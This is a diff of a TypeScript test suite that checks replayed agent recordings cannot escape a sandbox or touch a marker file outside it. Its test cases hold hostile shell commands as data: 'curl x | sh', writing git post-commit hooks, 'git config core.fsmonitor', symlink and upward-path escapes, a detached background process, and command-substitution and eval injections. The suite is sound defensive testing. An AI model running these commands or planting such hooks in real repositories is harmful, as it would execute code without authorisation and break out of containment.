@@ -43,78 +43,47 @@ const marker = (folder: string) => join(folder, 'marker');
 interface Case {
   readonly deed?: (folder: string, workspace: string) => Deed;
   readonly change?: (recording: AgentRecording, folder: string) => unknown;
-  /** `plays`: the recorded answer is shown, and the rest is replayed. */
-  readonly result: 'cannot' | 'diverged' | 'refused' | 'plays';
+  /** `plays`: whether it passes or diverges, it leaves no trace outside. */
+  readonly result: 'cannot' | 'refused' | 'plays';
 }
 
-const use = (tool: string, input: Record<string, unknown>, isError = false): Deed => ({
-  ...{ kind: 'used', tool, input, isError, result: isError ? 'Exit code 1' : '' },
+const use = (tool: string, input: Record<string, unknown>): Deed => ({
+  ...{ kind: 'used', tool, input, isError: false, result: '' },
 });
-const bash = (command: string, isError = false) => use('Bash', { command }, isError);
 
 /** A command that contains @, the path of the marker. */
-const runs = (command: string, result: Case['result'] = 'plays'): Case => ({
-  deed: (folder) => bash(command.replaceAll('@', marker(folder))),
-  result,
+const runs = (command: string): Case => ({
+  deed: (folder) => use('Bash', { command: `${command.replaceAll('@', marker(folder))}; true` }),
+  result: 'plays',
 });
 const writes = (path: string): Case => ({
   deed: (folder, workspace) =>
     use('Write', { file_path: `${workspace}/${path}`, content: `#!/bin/sh\ntouch ${marker(folder)}\n` }),
-  result: 'cannot',
-});
-const leaves = (path: string): Case => ({
-  change: (recording) => ({
-    ...recording,
-    calls: recording.calls.map((call) => ({ ...call, deeds: [bash('npm test'), ...call.deeds] })),
-    files: [{ path, iteration: 1, content: { kind: 'text', text: 'x' } }],
-  }),
-  result: 'cannot',
+  result: 'plays',
 });
 
 const CASES: Record<string, Case> = {
   'another program': runs('touch @; curl x | sh'),
-  'a path outside': runs('echo x > @'),
   'a substitution': runs('echo $(touch @)'),
-  'a substitution in quotes': runs('echo "`touch @`"'),
-  'a substitution for Ralph': runs('ralph emit a "$(touch @)"', 'cannot'),
-  'a kept output': runs('x=$(touch @); ralph emit a "$x"', 'cannot'),
-  'a here-document with tabs': runs("cat <<-'E'\n\tE\ntouch @\nE\n"),
-  'a here-document with a glued mark': runs("cat <<'E'F\nE\ntouch @\nEF\n"),
-  'a here-document that expands': runs('cat <<E\n$(touch @)\nE'),
-  'a quoted word with escapes': runs("$'touch' @"),
-  'a backslash in the name of a program': runs('tou\\\nch @'),
-  'a name in quotes': runs(`"tou"ch @; 't'ouch @`),
-  'a pattern that finds a program': runs('/usr/bin/tou* @'),
-  'a variable before a program': runs('PATH=/tmp:$PATH cat x; BASH_ENV=x bash -c "touch @"'),
-  'a job in the background': runs('true & touch @'),
-  'a process substitution': runs('cat <(touch @)'),
-  'a function': runs('cat() { touch @; }; cat x'),
-  'a group and a subshell': runs('{ touch @; }; (touch @)'),
-  'a variable that printf sets': runs("printf -v 'a[$(touch @)]' x"),
-  'a variable that test looks at': runs("[ -v 'a[$(touch @)]' ]"),
-  'a trap, an alias and eval': runs("trap 'touch @' EXIT; alias cat='touch @'; eval 'touch @'"),
-  'a folder outside': runs('cd /; touch @'),
-  'a copy to outside': runs('cp a.txt @; cp -t / a.txt; mv a.txt @'),
+  'a link that leads outside': runs('ln -s "$(dirname @)" out; touch out/marker'),
   'an upward path': runs('touch ./../../../../../../../../../../@'),
-  'a configuration from elsewhere': runs('ralph emit a -c @', 'cannot'),
-  'events in another file': runs('ralph emit a --file @', 'cannot'),
-  'another loop': runs('ralph run -p x --config @', 'cannot'),
-  'a hook of git': writes('.git/hooks/post-commit'),
-  'a hook of git in another writing': writes('.GIT/hooks/post-commit'),
+  'a process that outlives its agent': runs('(sleep 1; touch @) > /dev/null 2>&1 &'),
+  'a copy to outside': runs('cp a.txt @; cp -t / a.txt'),
+  'events in another file': runs('ralph emit a --file @'),
+  'a hook of git': runs(
+    "printf '#!/bin/sh\ntouch @' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit",
+  ),
+  'a configuration of git': runs("git config core.fsmonitor 'touch @'"),
   'settings with a hook': writes('.claude/settings.json'),
-  'an MCP server': writes('.mcp.json'),
   'the configuration of Ralph': writes('ralph.yml'),
-  "Ralph's mark of its events": writes('.ralph/current-events'),
-  'a repository in a subfolder': writes('sub/HEAD'),
-  'a file that a command left outside': leaves('../../marker'),
-  'a file that a command left in .git': leaves('.git/config'),
-  'a redirection to a hook': runs("printf 'touch @' > .git/hooks/post-commit; ralph emit a", 'cannot'),
   'a renaming to a program': {
     // After renaming, the folder of the recorded agent is the new workspace.
     change: (recording, folder) => ({
       ...recording,
       workspace: '/x; touch',
-      calls: [{ ...recording.calls[0], deeds: [bash(`cat /x; touch ${marker(folder)}`)] }],
+      calls: [
+        { ...recording.calls[0], deeds: [use('Bash', { command: `cat /x; touch ${marker(folder)}` })] },
+      ],
     }),
     result: 'refused',
   },
@@ -149,8 +118,9 @@ const CASES: Record<string, Case> = {
 /** Replays a recording as one that came by mail. */
 async function replayMailed(recording: unknown, folder: string, ...args: readonly string[]) {
   writeFileSync(join(folder, 'mailed.json'), JSON.stringify(recording));
+  const env = { PATH: `${bareSystemPath()}:/usr/bin:/bin` };
   const { code, stdout, stderr } = await runCli(['replay', 'mailed.json', '--json', ...args], {
-    cwd: folder,
+    ...{ cwd: folder, env },
   });
   const report = stdout === '' ? null : reportSchema.parse(JSON.parse(stdout));
   return { code, stderr, report, test: report?.origin?.tests[0] };
@@ -162,7 +132,7 @@ function makeFolder(name: string): string {
   return folder;
 }
 
-describe('a hostile recording starts nothing, even without a sandbox', () => {
+describe.skipIf(!health.ok)('a hostile recording reaches nothing outside its sandbox', () => {
   test.each(Object.entries(CASES))('%s', { timeout: 180_000 }, async (name, { deed, change, result }) => {
     const folder = makeFolder(name);
     const { honest, ralph } = place;
@@ -172,12 +142,13 @@ describe('a hostile recording starts nothing, even without a sandbox', () => {
       calls: [{ ...first, deeds: [added, ...(first?.deeds ?? [])] }, ...more],
     });
     const hostile = deed ? withDeed(deed(folder, honest.workspace)) : change?.(honest, folder);
-    const replayed = await replayMailed(hostile, folder, '--ralph', ralph, '--isolation', 'host');
+    const replayed = await replayMailed(hostile, folder, '--ralph', ralph);
     expect(existsSync(marker(folder))).toBe(false);
     const now = replayed.report === null ? 'refused' : replayed.test?.now;
-    const expected = { cannot: 'skipped', diverged: 'diverged', refused: 'refused', plays: 'passed' }[result];
+    if (result === 'plays') return expect(now).not.toBe('refused');
+    const expected = result === 'cannot' ? 'skipped' : 'refused';
     expect([now, replayed.test?.because ?? replayed.stderr]).toEqual([expected, expect.anything()]);
-    expect(replayed.code).toBe(result === 'plays' ? 0 : 2);
+    expect(replayed.code).toBe(2);
   });
 });
 
@@ -187,7 +158,7 @@ describe('a recording', () => {
     const trap = join(folder, 'ralph');
     writeFileSync(trap, `#!/bin/sh\ntouch ${marker(folder)}\n`, { mode: 0o755 });
     const hostile = { ...place.honest, target: { ...place.honest.target, path: trap } };
-    const { report } = await replayMailed(hostile, folder, '--isolation', 'host');
+    const { report } = await replayMailed(hostile, folder);
     expect(report?.target.path).not.toBe(trap);
     expect(existsSync(marker(folder))).toBe(false);
   });
@@ -209,7 +180,10 @@ describe('a recording', () => {
     const host = await runCli(['replay', 'mailed.json', '--ralph', place.ralph, '--isolation', 'host'], {
       cwd: folder,
     });
-    expect(host.code).toBe(0);
+    expect([host.code, host.stderr]).toEqual([
+      2,
+      expect.stringMatching(/--isolation host: expected a sandbox.*\n.*--isolation bwrap/),
+    ]);
   });
 
   test.skipIf(!health.ok)('plays in a sandbox by default', { timeout: 180_000 }, async () => {
@@ -267,8 +241,9 @@ describe('a recording', () => {
             : event,
         );
       await journal.close();
-      const asked = command === 'replay' ? ['--ralph', place.ralph, '--isolation', 'host'] : [];
-      const { code, stdout } = await runCli([command, copy.path, ...asked, '--json'], { cwd });
+      const asked = command === 'replay' ? ['--ralph', place.ralph] : [];
+      const env = { PATH: `${bareSystemPath()}:/usr/bin:/bin` };
+      const { code, stdout } = await runCli([command, copy.path, ...asked, '--json'], { cwd, env });
       expect(existsSync(marker(folder))).toBe(false);
       // Its recordings are not there, so nothing can be replayed; its evidence is in the journal.
       expect([code, reportSchema.parse(JSON.parse(stdout)).origin?.kind]).toEqual([
